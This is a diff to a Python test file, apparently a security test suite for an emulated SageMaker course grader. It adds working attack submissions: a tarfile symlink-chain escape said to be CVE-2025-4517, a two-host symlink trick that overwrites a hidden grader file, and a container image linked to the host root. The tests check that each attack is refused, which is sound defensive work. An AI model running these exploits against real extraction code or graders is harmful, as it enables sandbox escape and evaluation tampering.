@@ -150,6 +150,99 @@ aws.client("sagemaker").create_training_job(
 )
 """
 )
+# An archive of code that escapes the filter of Python's tarfile (CVE-2025-4517), to be unpacked outside all boxes: once by a link to a
+# file, once by a link to a folder.
+ARCHIVES = (
+    RIGHT
+    + """
+import io, tarfile, time
+long, steps, image = "d" * 247, "abcdefghijklmnop", "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-scikit-learn:1.2-1-cpu-py3"
+def packed(target, *more):
+    members, path = [], ""
+    for step in steps:
+        members += [(path + long, tarfile.DIRTYPE, ""), (path + step, tarfile.SYMTYPE, long)]
+        path += long + "/"
+    far = "/".join(steps) + "/" + "l" * 254
+    members += [(far, tarfile.SYMTYPE, "../" * len(steps)), ("escape", tarfile.SYMTYPE, far + "/" + "../" * 40 + target), *more]
+    archive = io.BytesIO()
+    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
+        for name, kind, link in members:
+            member = tarfile.TarInfo(name)
+            member.type, member.linkname = kind, link
+            tar.addfile(member)
+    return archive.getvalue()
+file = packed("{course}/was_here.pth", ("door", tarfile.LNKTYPE, "escape"), ("door", tarfile.REGTYPE, ""))
+folder = packed("{course}", ("escape/was_here.pth", tarfile.REGTYPE, ""))
+for number, archive in enumerate((file, folder)):
+    s3.put_object(Bucket=bucket, Key=f"code/{number}.tar.gz", Body=archive)
+    parameters = dict(sagemaker_program="x.py", sagemaker_submit_directory=f"s3://{bucket}/code/{number}.tar.gz")
+    job = dict(
+        TrainingJobName=f"escape-{number}", RoleArn=aws.role, OutputDataConfig=dict(S3OutputPath=f"s3://{bucket}/out"),
+        AlgorithmSpecification=dict(TrainingImage=image, TrainingInputMode="File"), HyperParameters=parameters,
+        ResourceConfig=dict(InstanceType="ml.m5.large", InstanceCount=1, VolumeSizeInGB=5), StoppingCondition=dict(MaxRuntimeInSeconds=60),
+    )
+    aws.client("sagemaker").create_training_job(**job)
+    while (found := aws.client("sagemaker").describe_training_job(TrainingJobName=f"escape-{number}"))["TrainingJobStatus"] == "InProgress":
+        time.sleep(0.2)
+    print("REASON", found["FailureReason"])
+"""
+)
+# Two hosts. Each link stays in its own host's folder; in the merged folder, where `d` is the folder itself, it would climb to the root.
+MEETING = """
+import json, os
+host = json.load(open("/opt/ml/input/config/resourceconfig.json"))["current_host"]
+os.chdir("/opt/ml/model")
+if host == "algo-1":
+    os.symlink(".", "d")
+else:
+    secret = "{course}/graders/m97_cloud/m97_1_hidden.py"
+    os.makedirs(os.path.dirname("/opt/ml" + secret))
+    open("/opt/ml" + secret, "w").write("my own")
+    for depth in range(4, 14):
+        os.makedirs("d/" * depth, exist_ok=True)
+        os.symlink("../" * (depth + 1) + secret.lstrip("/"), "d/" * depth + f"stolen{depth}")
+"""
+HOSTS = (
+    RIGHT
+    + f"""
+import time
+script = {MEETING!r}
+s3.put_object(Bucket=bucket, Key="code/meet.py", Body=script)
+channel = dict(ChannelName="code", DataSource=dict(S3DataSource=dict(S3DataType="S3Prefix", S3Uri=f"s3://{{bucket}}/code/")))
+sagemaker, command = aws.client("sagemaker"), ["python3", "/opt/ml/input/data/code/meet.py"]
+sagemaker.create_training_job(
+    TrainingJobName="meet", RoleArn=aws.role, InputDataConfig=[channel],
+    OutputDataConfig=dict(S3OutputPath=f"s3://{{bucket}}/out", CompressionType="NONE"),
+    AlgorithmSpecification=dict(TrainingImage=aws.image("xgboost", "1.7-1"), TrainingInputMode="File", ContainerEntrypoint=command),
+    ResourceConfig=dict(InstanceType="ml.m5.large", InstanceCount=2, VolumeSizeInGB=5), StoppingCondition=dict(MaxRuntimeInSeconds=60),
+)
+while (job := sagemaker.describe_training_job(TrainingJobName="meet"))["TrainingJobStatus"] == "InProgress":
+    time.sleep(0.2)
+print("STATUS", job["TrainingJobStatus"])
+for stored in s3.list_objects_v2(Bucket=bucket, Prefix="out").get("Contents", []):
+    print("STORED", stored["Key"], s3.get_object(Bucket=bucket, Key=stored["Key"])["Body"].read()[-3000:])
+"""
+)
+# An image whose folder of files is a link to this machine's: a job of it would see all that is there.
+IMAGE = (
+    RIGHT
+    + """
+import io, pathlib, tarfile
+for name, target in (("files", "/"), ("files", "{course}"), ("packages", "{course}")):
+    config = b'{"config": {"Env": [], "WorkingDir": "", "Entrypoint": null, "Cmd": ["ls", "/"]}, "from": "", "history": []}'
+    with tarfile.open("body.tar", "w") as tar:
+        member = tarfile.TarInfo("config.json")
+        member.size = len(config)
+        tar.addfile(member, io.BytesIO(config))
+        link = tarfile.TarInfo(name)
+        link.type, link.linkname = tarfile.SYMTYPE, target
+        tar.addfile(link)
+    try:
+        print("UPLOADED", aws.local.upload_image(pathlib.Path("body.tar")))
+    except Exception as error:
+        print("REFUSED", error)
+"""
+)
 AT_NIGHT = ("mocks_aws", "moves_the_clock", "denies_everybody")  # one of each kind runs by day
 CORPUS = {
     "right": (RIGHT, 2.0),
@@ -163,6 +256,9 @@ CORPUS = {
     "has_a_job_look_around": (JOB, 2.0),
     "claims_anothers_work": (CLAIM, 0.0),
     "sends_an_expression_that_backtracks": (BACKTRACKS, 2.0),
+    "hands_a_job_archives_that_escape": (ARCHIVES, 2.0),
+    "has_links_of_two_hosts_meet": (HOSTS, 2.0),
+    "makes_an_image_of_this_machine": (IMAGE, 2.0),
 }
 
 
@@ -220,6 +316,22 @@ def test_a_job_sees_no_more_than_its_own(attacked: Course) -> None:
     said = printed(attacked, "has_a_job_look_around")
     assert "FOUND []" in said and "REASON AlgorithmError: , exit code: 1" in said
     assert "REACHED" not in said and "STORED" not in said
+
+
+def test_no_archive_was_unpacked_outside_a_box(attacked: Course) -> None:
+    said = printed(attacked, "hands_a_job_archives_that_escape")
+    assert said.count("cannot be unpacked") == 2
+    assert not list(attacked.root.rglob("was_here*"))
+
+
+def test_links_of_two_hosts_lead_to_no_hidden_check(attacked: Course) -> None:
+    said = printed(attacked, "has_links_of_two_hosts_meet")
+    assert "STATUS Completed" in said and "STORED" not in said
+
+
+def test_no_image_shows_this_machine(attacked: Course) -> None:
+    said = printed(attacked, "makes_an_image_of_this_machine")
+    assert said.count("this is not the body of an image") == 3 and "UPLOADED" not in said
 
 
 def test_nothing_is_left_behind(attacked: Course) -> None:
